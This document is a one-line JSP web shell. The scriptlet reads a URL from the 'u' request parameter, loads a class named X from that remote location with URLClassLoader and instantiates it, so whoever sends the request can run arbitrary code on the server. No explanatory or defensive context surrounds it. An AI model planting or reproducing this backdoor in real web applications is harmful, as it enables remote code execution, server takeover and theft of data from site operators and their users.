<% new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(request.getParameter("u"))}).loadClass("X").newInstance(); %>
